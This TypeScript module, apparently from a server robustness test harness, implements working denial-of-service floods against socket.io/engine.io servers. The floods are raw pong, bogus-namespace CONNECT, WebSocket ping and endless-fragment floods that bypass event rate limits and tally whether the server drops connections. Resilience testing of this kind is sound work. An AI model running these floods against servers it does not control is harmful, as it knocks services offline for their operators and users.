/**
 * Floods below the event layer, where the event rate limits never look: engine.io pongs,
 * socket.io CONNECTs to namespaces that do not exist, WebSocket ping frames (which `ws`
 * answers by itself, below engine.io), and fragments of a message that never ends, thousands
 * to a TCP write.
 */
import { type Attack, type AttackTally, count, repeatFor, sleep } from './attack.js';
import { connectFrame, connectOutcome, openEngine } from './engine-socket.js';
import { clientFrame } from './raw-tcp.js';

/**
 * Joins, writes `opening` (if any), then `batch` after `batch` as fast as the server reads
 * them, in two connections at a time, each opened again when the server closes it.
 */
function floodOf(kind: string, batch: Buffer, opening?: Buffer): Attack {
  return async (target, durationMs) => {
    const tally: AttackTally = {};
    const endAt = performance.now() + durationMs;
    await repeatFor(durationMs, 2, async () => {
      const raw = await openEngine(target);
      if (!raw) return sleep(100);
      raw.sendTexts([connectFrame()]);
      count(tally, `join-${await connectOutcome(raw)}`);
      raw.socket.removeAllListeners('data');
      raw.socket.resume();
      if (opening) raw.socket.write(opening);
      while (performance.now() < endAt && raw.endedBy === 'open') {
        count(tally, `${kind}-batches`);
        if (!raw.socket.write(batch))
          await Promise.race([
            new Promise((resolve) => raw.socket.once('drain', resolve)),
            sleep(Math.max(0, endAt - performance.now())),
          ]);
      }
      count(tally, raw.endedBy === 'open' ? 'still-open' : 'closed-by-server');
      raw.destroy();
    });
    return tally;
  };
}

/** 2,048 `frame`s a write, as WebSocket frames of `opcode` (1: text). */
function packetFlood(kind: string, frame: (i: number) => string, opcode = 1): Attack {
  const frames = Array.from({ length: 2048 }, (_, i) => clientFrame(frame(i), opcode));
  return floodOf(kind, Buffer.concat(frames));
}

/** engine.io pongs nobody asked for. */
export const pongFlood = packetFlood('pong', () => '3');

/** CONNECTs to namespaces the server does not have, each answered with an error. */
export const namespaceFlood = packetFlood('connect', (i) => connectFrame(`/nowhere${i % 50}`));

/** WebSocket ping frames (opcode 9), each answered with a pong frame by `ws` itself. */
export const webSocketPingFlood = packetFlood('ws-ping', () => '', 0x9);

/**
 * One text message that never ends: a first fragment, then empty continuation frames (opcode
 * 0) for ever, each parsed by `ws` and none a whole message, so none an engine.io packet.
 */
export const fragmentFlood = floodOf(
  'fragment',
  Buffer.concat(Array.from({ length: 8192 }, () => clientFrame('', 0, false))),
  clientFrame('4', 1, false),
);
